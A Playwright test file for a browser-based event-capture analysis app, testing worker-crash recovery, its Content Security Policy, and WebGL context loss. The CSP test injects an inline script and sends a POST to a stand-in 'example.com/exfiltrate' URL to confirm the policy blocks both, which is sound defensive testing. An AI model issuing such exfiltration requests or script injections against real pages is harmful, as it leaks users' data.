import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { writeCapture } from '../scripts/generate-capture.mjs';
import { crashWorker, expect, openCapture, openEmptyNotebook, test } from './fixtures';

const dir = mkdtempSync(join(tmpdir(), 'etwlab-trust-'));
const capture = join(dir, 'capture.jsonl');

test.beforeAll(async () => {
  await writeCapture({ events: 2000, seed: 5, days: 2, out: capture, format: 'jsonl' });
});

test('a crashed data worker with no capture saved: the notebook says so, shows none, and loads again without a reload', async ({ page }) => {
  await openEmptyNotebook(page);
  // Autosave keeps only the summary of a capture past the limit: nothing for the new worker to restore.
  await page.getByLabel('Autosave captures up to').fill('0');
  const first = await openCapture(page, capture);
  expect(first).toMatch(/^Loaded 2,000 events/);
  await expect(page.getByTestId('autosave-status')).toHaveText(/^Saved in this browser at /, { timeout: 60_000 });
  await crashWorker(page, 'data.worker');
  const notice = page.locator('#load').getByRole('alert');
  await expect(notice).toContainText('The data worker stopped');
  await expect(notice).toContainText('only its summary was kept: open capture.jsonl again to continue');
  await expect(page.getByTestId('load-status')).toHaveText('No capture loaded yet.');
  await expect(page.getByTestId('explore-status')).toHaveCount(0);
  // Same page, no reload: the restarted worker loads again.
  expect(await openCapture(page, capture)).toBe(first);
});

test('the page sends nothing to another origin and allows no inline script', async ({ page }) => {
  const csp = await page.goto('./?demo=0').then((response) => response?.headers()['content-security-policy'] ?? '');
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain("'unsafe-eval'");
  // An injected inline script is refused by the policy (and reported as a console error, which
  // this test expects and so allows).
  test.info().annotations.push({ type: 'allow-console-error', description: 'Content Security Policy' });
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.body.append(script);
    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
  });
  expect(ran).toBe(false);
  // A fetch to another origin is blocked by connect-src before it leaves the page.
  const fetched = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'capture' });
      return 'sent';
    } catch {
      return 'blocked';
    }
  });
  expect(fetched).toBe('blocked');
});

test('a WebGL context lost mid-run stops the run cleanly with its history, and the next run uses another backend', async ({ page }) => {
  test.setTimeout(240_000);
  // WebGL is rendered in software here; `?backend=webgl` makes the app use it anyway.
  await page.goto('./?backend=webgl');
  await expect(page.getByTestId('load-status')).toHaveText(/^Loaded/, { timeout: 90_000 });
  await page.getByRole('button', { name: 'Generate known bad' }).click();
  await expect(page.getByTestId('known-bad-status')).toContainText('generated');
  const train = page.locator('#train');
  await train.getByLabel('Epochs').fill('300');
  await train.getByRole('button', { name: 'Train', exact: true }).click();
  const status = page.getByTestId('train-status');
  await expect(status).toContainText(/Epoch [2-9]\d*\/300|Epoch \d{2,}\/300/, { timeout: 180_000 });
  const worker = page.workers().find((w) => w.url().includes('train.worker'));
  expect(worker, 'the training worker should be running').toBeDefined();
  const lost = await worker?.evaluate(() => {
    const lose: unknown = Reflect.get(self, 'etwlabLoseWebglContext');
    return typeof lose === 'function' ? Boolean(lose()) : false;
  });
  expect(lost, 'WebGL must have been the backend in use').toBe(true);
  await expect(status).toContainText('Training stopped: The WebGL context was lost after', { timeout: 60_000 });
  // The epochs trained before the loss are kept.
  const lossRegion = page.getByRole('region', { name: 'Training loss', exact: true });
  await lossRegion.getByRole('button', { name: 'Show data' }).click();
  expect(await lossRegion.getByRole('table', { name: 'Training loss', exact: true }).locator('tbody tr').count()).toBeGreaterThan(0);
  // The next run trains on another backend.
  await train.getByLabel('Epochs').fill('2');
  await train.getByRole('button', { name: 'Train', exact: true }).click();
  await expect(status).toContainText('Training finished', { timeout: 120_000 });
  await expect(status).toContainText(/on (wasm|cpu)/);
});
